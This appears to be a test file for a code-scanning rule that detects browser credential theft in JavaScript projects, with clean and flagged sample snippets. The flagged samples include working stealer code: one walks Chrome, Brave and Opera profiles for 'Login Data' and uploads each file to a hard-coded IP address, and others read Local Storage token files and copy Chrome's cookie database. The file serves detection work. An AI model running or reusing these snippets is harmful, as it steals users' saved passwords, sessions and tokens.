import { ruleTest } from '../../testing/rule-tester.js';
import rule from './browser-credential-theft.js';

ruleTest(rule, {
  clean: [
    {
      name: 'puppeteer-style Chrome executable and user-data-dir lookup',
      file: 'src/launcher.js',
      code: `const path = require('path');
const os = require('os');
function defaultUserDataDir() {
  if (process.platform === 'darwin') return path.join(os.homedir(), 'Library/Application Support/Google/Chrome');
  if (process.platform === 'win32') return path.join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data');
  return path.join(os.homedir(), '.config/google-chrome');
}
module.exports = { defaultUserDataDir };
`,
    },
    {
      name: 'cookie consent banner',
      file: 'src/components/Banner.jsx',
      code: `export const Banner = () => <div title="Cookies">We use Cookies. <a href="https://www.google.com/chrome/">Get Chrome</a></div>;\n`,
    },
    {
      name: 'Local State in a redux comment and string',
      file: 'src/store.ts',
      code: `const label: string = 'Local State'; export default label;\n`,
    },
  ],
  flagged: [
    {
      name: 'BeaverTail-style multi-browser sweep with upload',
      file: 'lib/helper.js',
      code: `const fs = require('fs'), os = require('os'), path = require('path'), request = require('request');
const hd = os.homedir();
const roots = [hd + '/AppData/Local/Google/Chrome/User Data', hd + '/.config/BraveSoftware/Brave-Browser', hd + '/Library/Application Support/com.operasoftware.Opera'];
for (const r of roots) for (let i = 0; i < 200; i++) {
  const p = path.join(r, i === 0 ? 'Default' : 'Profile ' + i, 'Login Data');
  if (fs.existsSync(p)) request.post({ url: 'http://95.164.17.24:1224/uploads', formData: { multi_file: fs.createReadStream(p) } });
}
`,
      findings: [{ line: 5, severity: 'critical', confidence: 'high', evidence: "'Login Data'", message: /Chrome\/Brave\/Opera/ }],
    },
    {
      name: 'token grabber reading Local Storage/leveldb of several browsers',
      file: 'src/grab.js',
      code: `const fs = require('fs');
const paths = [process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default', process.env.APPDATA + '/Opera Software/Opera Stable'];
for (const p of paths) fs.readdirSync(p + '/Local Storage/leveldb').filter((f) => f.endsWith('.ldb'));
`,
      findings: [{ line: 3, severity: 'high', confidence: 'medium', message: /Local Storage.*Chrome\/Opera/ }],
    },
    {
      name: 'single-browser cookie copy (medium)',
      file: 'tools/cookies.js',
      code: `const fs = require('fs');
fs.copyFileSync(process.env.LOCALAPPDATA + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Network\\\\Cookies', 'c.db');
`,
      findings: [{ line: 2, severity: 'medium', confidence: 'low' }],
    },
  ],
});
